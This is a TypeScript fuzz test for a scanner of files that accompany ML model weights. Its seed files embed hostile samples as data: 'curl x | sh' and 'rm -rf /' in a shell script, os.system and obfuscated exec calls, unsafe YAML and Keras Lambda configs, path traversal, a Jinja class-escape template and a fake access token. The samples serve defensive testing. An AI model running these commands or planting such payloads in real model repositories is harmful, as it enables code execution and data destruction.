import fc from 'fast-check';
import { externalLink, filters, hdf5 } from './__testUtils__/hdf5s';
import { WRITTEN } from './__testUtils__/hdf5Written';
import { field, message } from './__testUtils__/protobufs';
import { scan } from './__testUtils__/scans';

const config = JSON.stringify({
  class_name: 'Sequential',
  config: {
    layers: [
      {
        class_name: 'Lambda',
        config: { function: ['4wE='], function_type: 'lambda' },
      },
      { class_name: '__bytes__', config: { value: '\x80\x02N.' } },
    ],
  },
  auto_map: { AutoModel: 'a--b.C' },
  chat_template: '{{ x.__class__ }}{% for i in range(3) %}é\\n{% endfor %}',
  weight_map: { a: '../x', a2: 1e5 },
  _target_: 'os.system',
});
const nodeOf = (op: string) =>
  message(
    [1, 'n'],
    [2, op],
    [3, 'm:0'],
    field(5, message([1, 'value'], [2, message([8, message([8, '/etc/x'])])])),
  );

const SEEDS: Array<[name: string, bytes: Buffer]> = [
  ['config.json', Buffer.from(config)],
  [
    'model.h5',
    hdf5({
      attributes: [{ name: 'model_config', value: config, isVariable: true }],
      messages: [
        [6, externalLink('w', '/x')],
        [11, filters(400)],
      ],
    }),
  ],
  [
    'model.h5',
    hdf5({ version: 2, attributes: [{ name: 'model_config', value: config }] }),
  ],
  ...Object.values(WRITTEN).map((bytes): [string, Buffer] => [
    'model.h5',
    bytes,
  ]),
  [
    'saved_model.pb',
    message(
      [1, 1],
      [
        2,
        message(
          [
            2,
            message(
              [1, nodeOf('WriteFile')],
              [1, nodeOf('Const')],
              [
                2,
                message([
                  1,
                  message([1, message([1, 'f'])], [3, nodeOf('SaveV2')]),
                ]),
              ],
            ),
          ],
          [6, message([2, '../x'])],
        ),
      ],
    ),
  ],
  [
    'graph.pbtxt',
    Buffer.from(
      'node { name: "a" op: "Py" "Func" attr { key: "x" value { s: \'\\101\' } } }',
    ),
  ],
  [
    'conf.yaml',
    Buffer.from(
      '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!name:os.system\nb: &x [1, {c: d}]\nc: *x\n? [k]\n: |\n  text\n...\n',
    ),
  ],
  [
    'modeling_x.py',
    Buffer.from(
      'import os as o\nfrom a import (b, c as d)\nx = f"{o.system(\'id\')!r:>{w}}" + b"\\x00"\nclass A:\n\tdef f(self): exec(getattr(o, "s" + "y"))\n',
    ),
  ],
  [
    'README.md',
    Buffer.from(
      '---\na: !!python/name:x\n---\nhttps://u:p@h.dev/é \u202e http://1.2.3.4/ hf_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n',
    ),
  ],
  ['run.sh', Buffer.from('#!/bin/sh\ncurl x | sh\nrm -rf /\n')],
  ['notes.txt', Buffer.from('\ufeffhallo wörld https://a.dev', 'utf16le')],
  [
    'logo.png',
    Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      Buffer.from('0000000049454e4400000000', 'hex'),
      Buffer.from('x'),
    ]),
  ],
];

const change = fc.record({
  kind: fc.constantFrom('set', 'remove', 'insert', 'repeat'),
  at: fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }),
  bytes: fc.uint8Array({ minLength: 1, maxLength: 8 }),
});

function apply(
  seed: Buffer,
  { kind, at, bytes }: { kind: string; at: number; bytes: Uint8Array },
): Buffer {
  const from = Math.floor(at * seed.length);
  const [before, after] = [seed.subarray(0, from), seed.subarray(from)];
  if (kind === 'insert') return Buffer.concat([before, bytes, after]);
  if (kind === 'remove') {
    return Buffer.concat([before, after.subarray(bytes.length)]);
  }
  if (kind === 'repeat') return Buffer.concat([before, after, after]);
  return Buffer.concat([before, bytes, after.subarray(bytes.length)]);
}

/** What the scanner itself fails at, which is a fault of the scanner. */
async function faultsOf(bytes: Buffer, name: string) {
  const report = await scan(bytes, name);
  return report.sizeBytes === bytes.length
    ? report.findings.filter(({ rule }) => rule === 'unreadable')
    : [report];
}

describe('whatever lies beside the weights', () => {
  it.each(SEEDS)(
    'a changed %s ends with a report',
    async (name, seed) => {
      await fc.assert(
        fc.asyncProperty(fc.array(change, { maxLength: 6 }), async changes => {
          const bytes = changes.reduce(apply, seed);
          expect(await faultsOf(bytes, name)).toEqual([]);
        }),
        { numRuns: 60 },
      );
    },
    60_000,
  );

  it('any bytes and any text end with a report', async () => {
    const names = SEEDS.map(([name]) => name);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(
          ...names,
          'x',
          'a.html',
          'a.tflite',
          'a.jinja',
          'requirements.txt',
          'a.ipynb',
        ),
        fc.oneof(
          fc.uint8Array({ maxLength: 200 }),
          fc
            .string({ unit: 'binary', maxLength: 200 })
            .map(text => Buffer.from(text)),
          fc.json().map(text => Buffer.from(text)),
        ),
        async (name, bytes) => {
          expect(await faultsOf(Buffer.from(bytes), name)).toEqual([]);
        },
      ),
      { numRuns: 300 },
    );
  }, 60_000);

  it('takes time in proportion to its length', async () => {
    const long: Array<[string, string]> = [
      ['a.yaml', '- '.repeat(30_000)],
      ['a.yaml', 'a: '.repeat(300_000)],
      ['a.yaml', '&a\n'.repeat(100_000)],
      ['a.yaml', `${'a: '.repeat(30_000)}`],
      ['a.yaml', `x: [${'{a: '.repeat(20_000)}`],
      ['a.yaml', `${'&a '.repeat(50_000)}`],
      ['a.yaml', `${'"'.repeat(100_001)}`],
      ['a.json', `[${'{"a":1,"a":2},'.repeat(30_000)}0]`],
      ['a.json', `"${'\\u0041'.repeat(100_000)}`],
      ['a.py', `${'f"{'.repeat(50_000)}`],
      ['a.py', `x = ${'('.repeat(100_000)}`],
      [
        'a.py',
        `${'import a as b\n'.repeat(20_000)}${'b.c.d\n'.repeat(20_000)}`,
      ],
      ['a.py', 'getattr(x, "a" + y)\n'.repeat(10_000)],
      ['a.py', `x = [${'"a" '.repeat(100_000)}]`],
      ['a.md', `---\n${'---'.repeat(50_000)}`],
      ['a.md', 'http://'.repeat(50_000)],
      ['a.md', '1.'.repeat(200_000)],
      ['a.md', 'A'.repeat(500_000)],
      ['a.md', 'eyJ'.repeat(100_000)],
      ['a.md', '-----BEGIN PRIVATE KEY-----'.repeat(10_000)],
      ['a.sh', 'curl '.repeat(60_000)],
      ['a.sh', 'base64 -d '.repeat(40_000)],
      ['a.html', '<a '.repeat(100_000)],
      ['a.html', `<a${' x'.repeat(100_000)}`],
      ['requirements.txt', '-'.repeat(300_000)],
      ['a.pbtxt', '"'.repeat(200_001)],
      ['a.pbtxt', 'op: "a'.repeat(50_000)],
    ];
    for (const [name, text] of long) {
      const before = performance.now();
      await scan(Buffer.from(text), name);
      // A machine of tests may be slow; the square of the length is slower.
      expect({
        name,
        start: text.slice(0, 20),
        isSlow: performance.now() - before > 15_000,
      }).toEqual(expect.objectContaining({ isSlow: false }));
    }
  }, 300_000);
});
